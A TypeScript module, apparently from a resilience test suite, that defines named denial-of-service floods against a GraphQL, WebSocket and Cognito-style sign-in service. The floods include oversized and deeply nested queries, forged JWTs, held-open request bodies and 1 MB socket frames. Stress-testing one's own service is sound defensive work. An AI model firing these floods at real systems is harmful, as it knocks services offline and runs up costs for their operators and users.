import { randomUUID } from 'node:crypto';
import { connect } from 'node:net';
import { once } from 'node:events';
import { WebSocket } from 'ws';

/** The cloud that a stranger floods, and the stranger's own account: somebody who signed up like anybody else. */
export interface Target {
  readonly url: string;
  readonly token: string;
  readonly clientId: string;
}

/** Sends one piece of a flood, and resolves when the next one may follow. */
export type Flood = (target: Target) => Promise<unknown>;

const many = (count: number, piece: (at: number) => string): string =>
  Array.from({ length: count }, (_, at) => piece(at)).join(' ');

const post = async (url: string, headers: Record<string, string>, body: string): Promise<void> => {
  const answer = await fetch(url, { method: 'POST', headers, body });
  await answer.arrayBuffer();
};
const graphql =
  (query: () => string): Flood =>
  ({ url, token }) =>
    post(
      `${url}/graphql`,
      { 'content-type': 'application/json', authorization: token },
      JSON.stringify({ query: query() }),
    );
const cognito =
  (operation: string, input: (target: Target) => object): Flood =>
  (target) =>
    post(
      `${target.url}/aws`,
      {
        'content-type': 'application/x-amz-json-1.1',
        'x-amz-target': `AWSCognitoIdentityProviderService.${operation}`,
      },
      JSON.stringify({ ClientId: target.clientId, ...input(target) }),
    );

/** A socket to the real-time endpoint that sends `frame()` this many times, and waits for an answer to each. */
const socket =
  (frames: number, frame: (target: Target, host: string) => string): Flood =>
  async (target) => {
    const { host } = new URL(target.url);
    const header = Buffer.from(JSON.stringify({ host, Authorization: target.token })).toString('base64url');
    const opened = new WebSocket(`${target.url.replace('http', 'ws')}/graphql/realtime`, [
      'graphql-ws',
      `header-${header}`,
    ]);
    const closed = once(opened, 'close');
    opened.on('error', () => undefined);
    await Promise.race([once(opened, 'open'), closed]);
    for (let at = 0; at < frames && opened.readyState === opened.OPEN; at++) {
      opened.send(frame(target, host));
      await Promise.race([once(opened, 'message'), closed]);
    }
    opened.terminate();
  };

/** The beginning of a request, kept open for a second. */
const held: Flood = async ({ url, token }) => {
  const { hostname, port, host } = new URL(url);
  const opened = connect(Number(port), hostname);
  opened.on('error', () => undefined);
  await once(opened, 'connect');
  opened.write(
    `POST /graphql HTTP/1.1\r\nhost: ${host}\r\nauthorization: ${token}\r\ncontent-length: 900000\r\n\r\n{"query":"${'a'.repeat(100_000)}`,
  );
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  opened.destroy();
};

const start = (query: string) => (target: Target, host: string) =>
  JSON.stringify({
    id: randomUUID(),
    type: 'start',
    payload: { data: JSON.stringify({ query }), extensions: { authorization: { host, Authorization: target.token } } },
  });

const forged = (): string =>
  `${Buffer.from('{"alg":"RS256","kid":"x"}').toString('base64url')}.${Buffer.from(`{"sub":"${randomUUID()}"}`).toString('base64url')}.${'A'.repeat(342)}`;

/** Floods that strangers may try, by their name in the report. */
export const floods = {
  'sign-ups with an address of 80 KB': cognito('SignUp', () => ({
    Username: `a@${'a.'.repeat(20_000)}@`,
    Password: 'Lantern-22',
  })),
  'sign-ins with a wrong password': cognito('InitiateAuth', () => ({
    AuthFlow: 'USER_SRP_AUTH',
    AuthParameters: { USERNAME: `${randomUUID()}@example.com`, SRP_A: 'a'.repeat(700) },
  })),
  'distinct queries of 32 KB': graphql(
    () => `{ ${many(30, () => `a${randomUUID().replaceAll('-', '')}: getUsage { used }`)} #${'x'.repeat(30_000)}\n }`,
  ),
  'introspections, each another one': graphql(
    () => `{ __schema { a${randomUUID().replaceAll('-', '')}: types { name fields { name type { name } } } } }`,
  ),
  '101 aliases': graphql(() => `{ ${many(101, (at) => `a${at}: getUsage { used }`)} }`),
  '14,000 wrong fields': graphql(() => `{ ${many(14_000, (at) => `f${at}`)} }`),
  'queries of 1 MB': graphql(() => `{ ${many(60_000, () => 'getUsage { used }')} }`),
  'variables nested 100,000 deep': ({ url, token }) =>
    post(
      `${url}/graphql`,
      { 'content-type': 'application/json', authorization: token },
      `{"query": "{ getUsage { used } }", "variables": {"x": ${'['.repeat(100_000)}${']'.repeat(100_000)}}}`,
    ),
  'forged tokens': ({ url }) =>
    post(
      `${url}/graphql`,
      { 'content-type': 'application/json', authorization: forged() },
      '{"query":"{ getUsage { used } }"}',
    ),
  'bodies that are held': held,
  'starts of 2,900 operations': socket(20, start('{health{ok}}'.repeat(2_900))),
  'frames of 1 MB': socket(5, () => 'a'.repeat(1_000_000)),
} as const satisfies Readonly<Record<string, Flood>>;

export type FloodName = keyof typeof floods;
export const floodNames = Object.keys(floods) as readonly FloodName[];
